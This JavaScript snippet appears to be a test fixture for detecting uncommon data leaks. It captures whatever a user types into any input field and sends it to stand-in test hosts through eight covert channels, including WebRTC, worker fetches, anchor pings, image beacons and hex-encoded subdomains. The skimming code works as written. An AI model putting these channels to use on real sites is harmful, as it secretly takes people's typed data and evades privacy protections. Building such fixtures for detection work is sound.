// Ways out that pages seldom take, each to a host of its own where the way has one.
{
  const to = (name) => `http://${name}.rare.test`;
  const query = (mail) => `m=${encodeURIComponent(mail)}`;

  /** Two ends on one page: what matters is what is said, not who listens. */
  async function channel(mail) {
    const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
    here.onicecandidate = ({ candidate }) => candidate && there.addIceCandidate(candidate);
    there.onicecandidate = ({ candidate }) => candidate && here.addIceCandidate(candidate);
    const way = here.createDataChannel("way");
    way.onopen = () => {
      way.send(JSON.stringify({ mail }));
      document.title += " said";
    };
    await here.setLocalDescription();
    await there.setRemoteDescription(here.localDescription);
    await there.setLocalDescription();
    await here.setRemoteDescription(there.localDescription);
  }

  const ways = {
    channel,
    cookie: (mail) => {
      // biome-ignore lint/suspicious/noDocumentCookie: as such scripts do
      document.cookie = `_lead=${encodeURIComponent(mail)}; domain=.parent.localhost; path=/`;
    },
    shared: (mail) => {
      const code = `fetch("${to("shared")}/w?${query(mail)}", {mode: "no-cors"})`;
      new SharedWorker(URL.createObjectURL(new Blob([code])));
    },
    service: async (mail) => {
      const { active } = await navigator.serviceWorker.ready;
      active.postMessage({ to: `${to("service")}/w`, mail });
    },
    window: (mail) => {
      open(`${to("window")}/quiet?${query(mail)}`, "other");
    },
    ping: (mail) => {
      const link = document.createElement("a");
      Object.assign(link, { href: "#", ping: `${to("ping")}/p?${query(mail)}` });
      document.body.append(link);
      link.click();
    },
    hash: async (mail) => {
      const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(mail));
      const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, "0"));
      new Image().src = `${to("hash")}/p.gif?h=${hex.join("")}`;
    },
    host: (mail) => {
      const hex = [...mail].map((sign) => sign.charCodeAt(0).toString(16)).join("");
      new Image().src = `http://${hex}.host.rare.test/p.gif`;
    },
  };

  let timer;
  document.addEventListener("input", ({ target }) => {
    clearTimeout(timer);
    timer = setTimeout(() => {
      for (const [name, way] of Object.entries(ways)) {
        try {
          way(target.value)?.catch((error) => {
            document.title += ` ${name}: ${error}`;
          });
        } catch (error) {
          document.title += ` ${name}: ${error}`;
        }
      }
    }, 250);
  });
}
